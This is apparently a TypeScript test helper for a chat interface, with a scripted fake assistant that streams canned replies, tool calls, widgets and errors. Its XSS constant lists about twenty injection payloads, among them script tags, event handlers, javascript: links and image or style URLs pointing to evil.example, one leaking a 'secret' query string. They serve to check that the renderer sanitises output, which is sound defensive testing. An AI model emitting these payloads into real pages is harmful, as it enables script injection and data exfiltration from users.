import type { Run } from '#tests/support/element/fake-chatkit.ts'

/** Attacks on the page that shows the answer. */
const XSS = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked=1">',
  '<img src="https://evil.example/pixel.png">',
  '![steal](https://evil.example/?q=secret)',
  '[click](javascript:window.hacked=1)',
  '[data](data:text/html,<script>window.hacked=1</script>)',
  '<a href="javascript:window.hacked=1">link</a>',
  '<svg onload="window.hacked=1"><script>window.hacked=1</script></svg>',
  '<style>@import url(https://evil.example/a.css); * { background: url(https://evil.example/b.png) }</style>',
  '<iframe src="https://evil.example/"></iframe>',
  '<div style="background:url(https://evil.example/c.png)">styled</div>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.hacked=1">',
  '<form action="https://evil.example/"><input name=a><button>go</button></form>',
  '```html\n<img src=x onerror="window.hacked=1">\n```',
  '<details open ontoggle="window.hacked=1">x</details>',
  '[a](https://ok.example "x\\" onmouseover=\\"window.hacked=1")',
  '[b](https://ok.example "a title that names evil.example")',
  '[https://bank.example](https://evil.example/bank)',
  '<https://evil.example/auto>',
  '<link rel="prefetch" href="https://evil.example/d"><meta http-equiv="refresh" content="0;url=https://evil.example/e">',
].join('\n\n')

const at = (run: Run) => ({ thread_id: run.thread.id, created_at: new Date().toISOString() })
let made = 0

/** Streams a message in pieces. */
export async function speak(
  run: Run,
  text: string,
  { ms = 0, size = 7, annotations = [] as object[] } = {},
): Promise<void> {
  const item = { type: 'assistant_message', id: `a_${++made}`, ...at(run), content: [] as object[] }
  const end = (said: string) =>
    run.send({
      type: 'thread.item.done',
      item: { ...item, content: [{ type: 'output_text', text: said, annotations }] },
    })
  run.send({ type: 'thread.item.added', item })
  for (let from = 0; from < text.length; from += size) {
    if (run.stopped()) return end(text.slice(0, from))
    const delta = text.slice(from, from + size)
    run.send({
      type: 'thread.item.updated',
      item_id: item.id,
      update: { type: 'assistant_message.content_part.text_delta', content_index: 0, delta },
    })
    if (ms) await run.pause(ms)
  }
  end(text)
}

/** What an answer waits for, until the test has seen what it needs. */
export const gates = new Map<string, Promise<void>>()

/** A small assistant: its answers, by the person's text. */
export async function scriptedAnswer(run: Run, text: string): Promise<void> {
  if (text === 'slow') return speak(run, 'word '.repeat(400), { ms: 15, size: 5 })
  if (text === 'wait') {
    const item = { type: 'assistant_message', id: `a_${++made}`, ...at(run), content: [] as object[] }
    run.send({ type: 'thread.item.added', item })
    run.send({
      type: 'thread.item.updated',
      item_id: item.id,
      update: { type: 'assistant_message.content_part.text_delta', content_index: 0, delta: 'Half of it' },
    })
    await gates.get('wait')
    const whole = run.stopped() ? 'Half of it' : 'Half of it and the rest.'
    return run.send({
      type: 'thread.item.done',
      item: { ...item, content: [{ type: 'output_text', text: whole, annotations: [] }] },
    })
  }
  if (text === 'table')
    return speak(run, '| Plan | Price |\n|---|---:|\n| Small | 5 € |\n\n3. third\n\n```js\nlet a = 1\n```')
  if (text === 'xss') return speak(run, XSS)
  if (text === 'fail')
    return run.send({ type: 'error', code: 'custom', message: 'The model is tired.', allow_retry: true })
  if (text === 'retry') return speak(run, 'Better now.')
  if (text === 'effect') {
    run.send({ type: 'client_effect', name: 'confetti', data: { pieces: 3 } })
    run.send({ type: 'notice', level: 'warning', title: 'Mind', message: 'The **door** is open.' })
    return speak(run, 'See [this](chatkit-link://task/open?id=7).')
  }
  if (text === 'cut') {
    setTimeout(run.drop, 200)
    run.send({ type: 'client_effect', name: 'once', data: {} })
    return speak(run, 'one two three four five six seven eight nine ten', { ms: 80, size: 5 })
  }
  if (text === 'late effect') {
    await gates.get('wait')
    run.send({ type: 'client_effect', name: 'late', data: {} })
    return scriptedAnswer(run, 'call double')
  }
  if (text.startsWith('call ')) {
    const name = text.slice(5)
    return run.send({
      type: 'thread.item.done',
      item: {
        type: 'client_tool_call',
        id: `tc_${++made}`,
        ...at(run),
        status: 'pending',
        call_id: 'c',
        name,
        arguments: { number: 21 },
      },
    })
  }
  if (text.startsWith('tool output')) return speak(run, `The page said: \`${text.slice(12)}\``)
  if (text.startsWith('action')) return speak(run, `Acted: \`${text.slice(7)}\``)
  if (text === 'work') {
    const workflow = (status_indicator: string) => ({
      type: 'workflow',
      id: 'wf_1',
      ...at(run),
      workflow: {
        type: 'custom',
        expanded: false,
        tasks: [{ type: 'custom', title: 'add_task', status_indicator, content: 'title: **buy milk**' }],
      },
    })
    run.send({ type: 'thread.item.added', item: workflow('loading') })
    await gates.get('work')
    const ended = workflow('complete')
    run.send({
      type: 'thread.item.done',
      item: { ...ended, workflow: { ...ended.workflow, summary: { duration: 3 } } },
    })
    run.thread.title = 'Milk'
    run.send({ type: 'thread.updated', thread: { ...run.thread, items: { data: [], has_more: false }, metadata: {} } })
    const source = { type: 'url', title: 'The shop', url: 'https://shop.example/milk' }
    return speak(run, 'Added the task.', { annotations: [{ type: 'annotation', index: 14, source }] })
  }
  if (text === 'widget') {
    const children = [
      { type: 'Title', value: 'Milk' },
      { type: 'Text', value: 'Two litres', id: 't' },
      {
        type: 'Row',
        children: [
          { type: 'Badge', label: 'open', color: 'success' },
          { type: 'Spacer' },
          { type: 'Button', label: 'Done', onClickAction: { type: 'done', payload: { id: 7 } } },
        ],
      },
      { type: 'Hologram', value: 'from the future' },
    ]
    return run.send({
      type: 'thread.item.done',
      item: { type: 'widget', id: `w_${++made}`, ...at(run), widget: { type: 'Card', children } },
    })
  }
  return speak(run, `You said **${text}**.\n\n- one\n- two\n\n\`\`\`js\nlet a = 1\n\`\`\``)
}
